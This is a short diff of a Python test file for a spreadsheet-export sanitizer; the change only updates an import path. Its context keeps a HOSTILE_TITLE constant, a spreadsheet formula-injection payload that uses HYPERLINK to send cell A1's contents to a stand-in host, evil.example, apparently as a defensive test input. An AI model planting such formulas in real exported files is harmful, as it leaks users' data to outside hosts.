@@ -9,7 +9,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
 
-from disclosure_pages.spreadsheet_export import spreadsheet_safe
+from gongkai.disclosure_pages.spreadsheet_export import spreadsheet_safe
 
 HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"点击查看")'
 
